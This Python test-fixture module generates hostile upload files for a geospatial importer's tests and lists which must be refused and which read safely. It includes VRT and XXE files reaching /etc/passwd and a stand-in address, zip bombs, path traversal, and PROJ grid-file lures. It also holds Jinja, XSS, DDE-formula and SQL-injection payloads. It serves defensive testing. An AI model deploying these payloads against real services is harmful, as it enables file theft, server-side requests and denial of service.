"""Files made to harm: what is bad about each, its name, and a few lines that make its bytes."""

from __future__ import annotations

import gzip
import json
import math
import struct
from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile.making import (
    GPKG,
    database,
    feature,
    geojson,
    gpkg_point,
    parquet,
    point,
    shapefile_bytes,
    swelling_parquet,
    workbook,
    zipped,
)


@dataclass(frozen=True)
class Lure:
    """What a file must not reach: another file of the server, and an address that listens."""

    file: str = "/etc/passwd"
    url: str = "http://192.0.2.1/x"


@dataclass(frozen=True)
class Harm:
    """One file: what is bad about it, the name that it comes under, and its bytes."""

    what: str
    name: str
    make: Callable[[Lure], bytes]


PAYLOADS = {
    "jinja": "{{ 7 * 191 }}{% for x in ().__class__.__mro__ %}{% endfor %}",
    "literal": "${globalThis.__pwned = 1}`",
    "image": "<img src=x onerror=globalThis.__pwned=1>",
    "script": "</script><script>globalThis.__pwned=1</script>",
    "formula": '=HYPERLINK("http://192.0.2.1","x")',
    "command": "=cmd|' /C calc'!A0",
    "separator": "a\u2028b\u2029c",
    "markdown": "![x](http://192.0.2.1/x.png)",
    "traversal": "../../../../etc/passwd",
    "control": "a\x01\x02\x7fb",
    "direction": "a\u202egpj.exe",
    "address": "http://192.0.2.1/x.gpkg",
}
_HEAD = b'{"type": "FeatureCollection", "features": ['


def _vrt(lure: Lure) -> bytes:
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="l"><SrcDataSource>{lure.file}</SrcDataSource></OGRVRTLayer>'
        f'<OGRVRTLayer name="m"><SrcDataSource>/vsicurl/{lure.url}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    ).encode()


def _is(data: bytes) -> Callable[[Lure], bytes]:
    return lambda _: data


def _crossing(corners: int) -> bytes:
    """A star of one ring that crosses itself at every corner."""
    angle = [number * math.pi * (1 - 1 / corners) for number in range(corners)]
    ring = [[round(121.5 + math.cos(a) / 9, 6), round(31.2 + math.sin(a) / 9, 6)] for a in angle]
    return geojson(feature({"type": "Polygon", "coordinates": [[*ring, ring[0]]]}, name="star"))


def _layer(*statements: str, srs: int = 4326) -> bytes:
    return database(*GPKG, *statements, f"INSERT INTO gpkg_geometry_columns VALUES ('t', 'g', {srs})")


def _crs(name: str) -> Callable[[Lure], bytes]:
    """GeoJSON whose reference system is a text that makes PROJ look elsewhere."""

    def make(lure: Lure) -> bytes:
        said = name.replace("FILE", lure.file).replace("URL", lure.url)
        return geojson(feature(point(1, 2), name="a"), crs={"type": "name", "properties": {"name": said}})

    return make


_WKT = (
    'PROJCS["x",GEOGCS["y",DATUM["z",SPHEROID["w",6378137,298.257]],PRIMEM["g",0],UNIT["degree",0.0174532925]],'
    'PROJECTION["Transverse_Mercator"],UNIT["m",1],EXTENSION["PROJ4","+proj=tmerc +nadgrids=FILE +no_defs"]]'
)
_ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


def _outer_entity(lure: Lure) -> bytes:
    sheet = (
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{lure.file}"><!ENTITY b SYSTEM "{lure.url}">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&a;&b;</t></is></c></row></sheetData></worksheet>'
    )
    return workbook({"A1": "name"}, {"xl/worksheets/sheet1.xml": sheet.encode()})


def _rings(records: int) -> bytes:
    """A shapefile whose one record says that it has two thousand million points."""
    shape = struct.pack("<i4dii", 5, 0, 0, 1, 1, records, 2_000_000_000)
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 50 + 4 + len(shape) // 2) + struct.pack(
        "<ii8d", 1000, 5, *[0.0] * 8
    )
    shp = head + struct.pack(">ii", 1, len(shape) // 2) + shape
    dbf = bytes((3, 1, 1, 1)) + struct.pack("<IHH", 1, 65, 11) + bytes(20) + b"name".ljust(11, b"\0") + b"C"
    dbf += bytes(4) + bytes((10, 0)) + bytes(14) + b"\r" + b" " + b"a".ljust(10)
    return zipped({"a.shp": shp, "a.dbf": dbf, "a.shx": head + struct.pack(">ii", 50, len(shape) // 2)})


REFUSED = (
    *(
        Harm(f"VRT as {ending}", f"list.{ending}", _vrt)
        for ending in ("gpkg", "zip", "csv", "geojson", "shp", "xlsx")
    ),
    Harm("VRT behind blanks", "list.csv", lambda lure: b"\xef\xbb\xbf\n\n  " + _vrt(lure)),
    Harm(
        "VRT in an archive", "list.zip", lambda lure: zipped({"list.vrt": _vrt(lure), "doc.kml": b"<kml/>"})
    ),
    Harm(
        "VRT as the shapes of a shapefile",
        "a.zip",
        lambda lure: zipped({"a.shp": _vrt(lure), "a.dbf": _vrt(lure)}),
    ),
    Harm("empty", "a.csv", _is(b"")),
    Harm("only blanks", "a.csv", _is(b"   \n  \n")),
    Harm("HTML", "a.csv", _is(b"<html><script>1</script></html>")),
    Harm("SVG", "a.geojson", _is(b"<svg onload=1></svg>")),
    Harm("PDF", "a.xlsx", _is(b"%PDF-1.7 ...")),
    Harm("PNG", "a.csv", _is(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)),
    Harm("old XLS", "a.xls", _is(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)),
    Harm("program", "a.csv", _is(b"MZ\x90\0" + b"\0" * 60)),
    Harm("ELF", "a.parquet", _is(b"\x7fELF" + b"\0" * 60)),
    Harm("gzip", "a.csv.gz", lambda _: gzip.compress(b"name\nx\n")),
    Harm("binary", "a.csv", _is(bytes(range(256)) * 20)),
    Harm("over the limit", "a.csv", lambda _: b"name\n" + b"x" * (51 * 1024 * 1024)),
    Harm("zip bomb", "a.zip", lambda _: zipped({"a.shp": b"\0" * 40_000_000})),
    Harm(
        "zip bomb in a workbook",
        "a.xlsx",
        lambda _: workbook({"A1": "n"}, {"xl/media/x.xml": b" " * 40_000_000}),
    ),
    Harm("zip that lies about its size", "a.zip", lambda _: _lying()),
    Harm("many members", "a.zip", lambda _: zipped({f"{number}.txt": b"" for number in range(600)})),
    Harm("nested zip", "a.zip", lambda _: zipped({"in.zip": zipped({"a.shp": b"x"})})),
    Harm("nested gzip", "a.zip", lambda _: zipped({"a.tar.gz": b"x", "a.shp": b"x"})),
    Harm("path out", "a.zip", lambda _: zipped({"../../x.shp": b"x"})),
    Harm("path out, the other way", "a.zip", lambda _: zipped({"a\\..\\..\\x.shp": b"x"})),
    Harm("absolute path", "a.zip", lambda lure: zipped({f"{lure.file}.shp": b"x"})),
    Harm("drive path", "a.zip", lambda _: zipped({"C:\\x.shp": b"x"})),
    Harm("no table in zip", "a.zip", lambda _: zipped({"readme.txt": b"hello"})),
    Harm("truncated zip", "a.zip", lambda _: zipped({"a.shp": b"x" * 999})[:200]),
    Harm("shapefile without dbf", "a.zip", lambda _: zipped({"a.shp": b"\0" * 100})),
    Harm(
        "broken shapefile",
        "a.zip",
        lambda _: zipped({"a.shp": b"\x27" * 200, "a.dbf": b"\x03" * 200, "a.shx": b"\0" * 100}),
    ),
    Harm("shapefile of endless points", "a.zip", lambda _: _rings(1)),
    Harm("shapefile of endless rings", "a.zip", lambda _: _rings(500_000_000)),
    Harm(
        "shapefile with a .prj that names a file",
        "a.zip",
        lambda lure: shapefile_bytes(
            [(1.0, 2.0, "a")], more={"list.prj": _WKT.replace("FILE", lure.file).encode()}
        ),
    ),
    Harm(
        "shapefile in an encoding that is none",
        "a.zip",
        lambda _: shapefile_bytes([(1.0, 2.0, "a")], more={"list.cpg": b"../../etc/passwd"}),
    ),
    Harm("truncated parquet", "a.parquet", _is(b"PAR1" + b"\0" * 40)),
    Harm("parquet of noise", "a.parquet", _is(b"PAR1" + bytes(range(256)) * 4 + b"PAR1")),
    Harm("parquet of 600 columns", "a.parquet", lambda _: parquet({f"c{n}": [1] for n in range(600)})),
    Harm("parquet of too many rows", "a.parquet", lambda _: parquet({"c": [1] * 200_001})),
    Harm(
        "parquet that unpacks to gigabytes",
        "a.parquet",
        lambda _: swelling_parquet(200_000, 9000),
    ),
    Harm("truncated database", "a.gpkg", _is(b"SQLite format 3\0" + b"\0" * 200)),
    Harm(
        "database cut in half",
        "a.gpkg",
        lambda _: _layer("CREATE TABLE t (g BLOB)")[:6000],
    ),
    Harm("database without layers", "a.gpkg", lambda _: database("CREATE TABLE t (a)")),
    Harm(
        "GeoPackage with only a view",
        "a.gpkg",
        lambda _: _layer("CREATE VIEW t AS SELECT 1 AS g"),
    ),
    Harm(
        "GeoPackage whose view never ends",
        "a.gpkg",
        lambda _: _layer(
            "CREATE VIEW t AS WITH RECURSIVE n(g) AS (SELECT 1 UNION ALL SELECT g + 1 FROM n) SELECT g FROM n"
        ),
    ),
    Harm(
        "GeoPackage whose list of layers is a view that never ends",
        "a.gpkg",
        lambda _: database(
            "CREATE VIEW gpkg_geometry_columns AS WITH RECURSIVE n(g) AS (SELECT 1 UNION ALL SELECT g + 1 FROM n) "
            "SELECT g AS table_name, g AS column_name, g AS srs_id FROM n"
        ),
    ),
    Harm(
        "GeoPackage with a virtual table", "a.gpkg", lambda _: _layer("CREATE VIRTUAL TABLE t USING fts5(g)")
    ),
    Harm("GeoPackage that lacks its table", "a.gpkg", lambda _: _layer()),
    Harm("GeoPackage that lacks its column", "a.gpkg", lambda _: _layer("CREATE TABLE t (a)")),
    Harm(
        "GeoPackage in two reference systems",
        "a.gpkg",
        lambda _: _layer(
            "CREATE TABLE t (g BLOB)",
            f"INSERT INTO t VALUES ({gpkg_point(4326)}), ({gpkg_point(4549, 4e5, 3e6)})",
        ),
    ),
    Harm(
        "GeoPackage whose reference system is a text",
        "a.gpkg",
        lambda lure: _layer(
            "CREATE TABLE t (g BLOB)",
            f"INSERT INTO t VALUES ({gpkg_point(7)})",
            f"INSERT INTO gpkg_spatial_ref_sys VALUES (7, '+init={lure.file}', 1)",
            srs=7,
        ),
    ),
    Harm("JSON that is no GeoJSON", "a.geojson", _is(b'{"a": 1}')),
    Harm("broken JSON", "a.geojson", _is(_HEAD)),
    Harm("features no list", "a.geojson", _is(b'{"type": "FeatureCollection", "features": 7}')),
    Harm("features no objects", "a.geojson", _is(_HEAD + b"1, 2]}")),
    Harm("properties no object", "a.geojson", _is(_HEAD + b'{"properties": [1], "geometry": null}]}')),
    Harm("deep JSON", "a.geojson", _is(_HEAD[:-1] + b"[" * 100_000)),
    Harm(
        "a number of a million digits",
        "a.geojson",
        _is(_HEAD + b'{"properties": {"a": ' + b"9" * 1_000_000 + b"}}]}"),
    ),
    Harm(
        "JSON in UTF-16",
        "a.geojson",
        lambda _: '{"type": "FeatureCollection", "features": []}'.encode("utf-16"),
    ),
    Harm("reference system that names a file", "a.geojson", _crs("+init=FILE:1")),
    Harm("reference system with a grid file", "a.geojson", _crs("+proj=longlat +nadgrids=FILE +no_defs")),
    Harm("reference system at an address", "a.geojson", _crs("URL")),
    Harm("reference system in WKT with a grid file", "a.geojson", _crs(_WKT)),
    Harm("reference system that is none", "a.geojson", _crs("EPSG:99999999")),
    Harm(
        "too many columns", "a.csv", lambda _: (",".join(f"c{n}" for n in range(10_000)) + "\n1\n").encode()
    ),
    Harm(
        "too many columns in a workbook",
        "a.xlsx",
        lambda _: workbook({f"{_letters(n)}1": f"c{n}" for n in range(10_000)}),
    ),
    Harm("too many rows", "a.csv", lambda _: b"name\n" + b"x\n" * 200_001),
    Harm("ragged rows", "a.csv", _is(b"name,lon\na,1,2,3,4\n")),
    Harm("unclosed quote", "a.csv", _is(b'name,lon\n"a,1\n' + b"x" * 200_000)),
    Harm("neither encoding", "a.csv", _is(b"name\n\xff\xff\xff\x81\n")),
    Harm("UTF-16 cut in a character", "a.csv", lambda _: "name\n甲乙".encode("utf-16")[:-1]),
    Harm("workbook without sheets", "a.xlsx", lambda _: zipped({"xl/workbook.xml": b"<workbook/>"})),
    Harm(
        "workbook that expands entities",
        "a.xlsx",
        lambda _: zipped({"[Content_Types].xml": _ENTITY, "xl/workbook.xml": b"<workbook/>"}),
    ),
    Harm("workbook with entities from elsewhere", "a.xlsx", _outer_entity),
    Harm("workbook without headings", "a.xlsx", lambda _: workbook({})),
    Harm(
        "too many vertices",
        "a.geojson",
        lambda _: geojson(
            feature({"type": "LineString", "coordinates": [[n / 1e5 % 180, 0] for n in range(2_000_001)]})
        ),
    ),
)
"""Files that must be refused with a message."""

TOLERATED = (
    *(
        Harm(
            f"CSV with {what}",
            "a.csv",
            _is(f'name,address\n"{text.replace(chr(34), chr(34) * 2)}",x\n'.encode()),
        )
        for what, text in PAYLOADS.items()
    ),
    *(
        Harm(
            f"GeoJSON with {what}",
            "a.geojson",
            _is(geojson(feature(point(121.5, 31.2), **{"name": text, text: text}))),
        )
        for what, text in PAYLOADS.items()
    ),
    Harm(
        "headings with payloads",
        "a.csv",
        _is(
            (
                "name,"
                + ",".join(f'"{text}"' for text in ("{{7}}", "<b>", "=1", "![x](y)"))
                + "\na,b,c,d,e\n"
            ).encode()
        ),
    ),
    Harm("repeated headings", "a.csv", _is(b"name,name,name\na,b,c\n")),
    Harm("our own columns", "a.csv", _is(b"row,reason,name\n1,x,'=1\n2,y,\n")),
    Harm("headings of nothing", "a.csv", _is(b",,\na,b,c\n")),
    Harm("numbers that are none", "a.csv", _is(b"name,lon,lat\na,NaN,inf\nb,1e999,0\nc,,\n")),
    Harm("absurd coordinates", "a.csv", _is(b"name,lon,lat\na,1e300,-1e300\nb,500,500\nc,-0,0\n")),
    Harm(
        "absurd pairs",
        "a.csv",
        _is('name,经纬度\na,"NaN,NaN"\nb,"1e9,2"\nc,"121.5，31.2"\nd,{{7}}\n'.encode()),
    ),
    Harm("UTF-16", "a.csv", lambda _: "name,lon\n甲,1\n".encode("utf-16")),
    Harm("GB18030", "a.csv", lambda _: "名称,经度\n甲,1\n".encode("gb18030")),
    Harm("a very long cell", "a.csv", _is(b"name\n" + b"x" * 900_000 + b"\n")),
    Harm("null bytes", "a.geojson", _is(geojson(feature(point(121.5, 31.2), name="a\0b")))),
    Harm(
        "null shapes",
        "a.geojson",
        _is(geojson(feature(None, name="a"), feature({"type": "Nonsense"}, name="b"))),
    ),
    Harm("NaN shape", "a.geojson", _is(geojson(feature(point(float("nan"), 1), name="a")))),
    Harm(
        "endless shape",
        "a.geojson",
        _is(_HEAD + b'{"properties": {}, "geometry": {"type": "Point", "coordinates": [1e999, -1e999]}}]}'),
    ),
    Harm(
        "degrees and metres in one file",
        "a.geojson",
        _is(geojson(feature(point(121.5, 31.2), name="a"), feature(point(350000, 3450000), name="b"))),
    ),
    Harm(
        "nested collections",
        "a.geojson",
        lambda _: geojson(
            feature(json.loads('{"type":"GeometryCollection","geometries":[' * 200 + "]}" * 200), name="a")
        ),
    ),
    Harm("crossing polygon", "a.geojson", _is(_crossing(5))),
    Harm("crossing polygon of a million corners", "a.geojson", lambda _: _crossing(1_000_001)),
    Harm(
        "GeoPackage with a trigger",
        "a.gpkg",
        lambda _: _layer(
            "CREATE TABLE t (name TEXT, g BLOB)",
            f"INSERT INTO t VALUES ('a', {gpkg_point()})",
            "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM t; END",
        ),
    ),
    Harm(
        "GeoPackage with broken shapes",
        "a.gpkg",
        lambda _: _layer(
            "CREATE TABLE t (name TEXT, g BLOB)",
            "INSERT INTO t VALUES ('a', x'47500001'), ('b', 7), ('c', NULL)",
        ),
    ),
    Harm(
        "GeoPackage with computed columns",
        "a.gpkg",
        lambda _: _layer(
            "CREATE TABLE t (name TEXT, g BLOB, c TEXT AS (hex(zeroblob(9))))",
            f"INSERT INTO t VALUES ('a', {gpkg_point()})",
        ),
    ),
    Harm(
        "GeoPackage with a table named to harm",
        "a.gpkg",
        lambda _: database(
            *GPKG,
            'CREATE TABLE "t""; DROP TABLE x; --" (name TEXT, g BLOB)',
            f'INSERT INTO "t""; DROP TABLE x; --" VALUES (1, {gpkg_point()})',
            "INSERT INTO gpkg_geometry_columns VALUES ('t\"; DROP TABLE x; --', 'g', 4326)",
        ),
    ),
    Harm(
        "workbook with formula and links outside",
        "a.xlsx",
        lambda lure: workbook(
            {"A1": "name", "B1": "=1+1"},
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": _relation("externalLinkPath", lure.url),
                "xl/worksheets/_rels/sheet1.xml.rels": _relation("hyperlink", f"file://{lure.file}"),
            },
            f'<row r="2"><c r="A2"><f>WEBSERVICE("{lure.url}")</f></c><c r="B2" t="inlineStr"><is><t>x</t></is></c></row>',
        ),
    ),
    Harm(
        "workbook with a cell at the far end",
        "a.xlsx",
        lambda _: workbook(
            {"A1": "name"},
            rows='<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
        ),
    ),
)
"""Files that are read: what is bad in them is refused row by row, or shown as plain text."""


def _relation(kind: str, target: str) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{office}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def _letters(place: int) -> str:
    """A spreadsheet's name of a column, counted from 0."""
    text = ""
    place += 1
    while place:
        place, rest = divmod(place - 1, 26)
        text = chr(65 + rest) + text
    return text


def _lying() -> bytes:
    """An archive whose list says 9 bytes where 40 million are packed."""
    data = bytearray(zipped({"a.shp": b"\0" * 40_000_000, "a.dbf": b"x"}))
    while (at := data.find(struct.pack("<I", 40_000_000))) >= 0:
        data[at : at + 4] = struct.pack("<I", 9)
    return bytes(data)
